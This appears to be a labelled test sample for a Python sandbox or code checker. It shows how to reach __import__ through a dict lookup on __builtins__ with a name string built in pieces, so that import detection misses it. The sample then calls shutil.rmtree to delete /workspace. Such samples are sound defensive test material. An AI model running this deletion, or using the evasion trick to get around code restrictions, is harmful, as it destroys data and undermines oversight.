# attack-class: 5
# title: __builtins__.__dict__.get('__imp'+'ort__')
# why: the builtin name is computed and fetched with dict.get

key = "__imp" + "ort__"
imp = (__builtins__.__dict__ if hasattr(__builtins__, "__dict__") else __builtins__).get(key)
imp("shutil").rmtree("/workspace")
